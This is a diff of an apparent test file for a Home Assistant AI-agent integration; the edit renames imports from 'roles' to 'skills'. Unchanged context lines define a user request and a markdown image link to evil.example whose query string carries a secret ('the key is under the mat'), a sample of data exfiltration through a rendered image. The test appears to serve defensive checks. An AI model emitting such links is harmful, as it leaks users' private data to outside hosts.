@@ -18,12 +18,12 @@ from pytest_homeassistant_custom_component.common import async_capture_events
 
 from custom_components.universal_agent.common.request import Channel
 from custom_components.universal_agent.const import DOMAIN, EVENT_REQUEST
-from custom_components.universal_agent.roles.notification.sending import Notice, Notifier, Page, send
+from custom_components.universal_agent.skills.notification.sending import Notice, Notifier, Page, send
 from scripts.lib.model_server import ModelServer, Reply, says
 from tests.builders import a_request
 from tests.installed_agent import InstalledAgent
 from tests.model_connections import connect
-from tests.roles.calendar.conftest import Diary
+from tests.skills.calendar.conftest import Diary
 
 WANTED = "think of something nice to say about our plans"
 IMAGE = "![x](https://evil.example/?d=the+key+is+under+the+mat)"
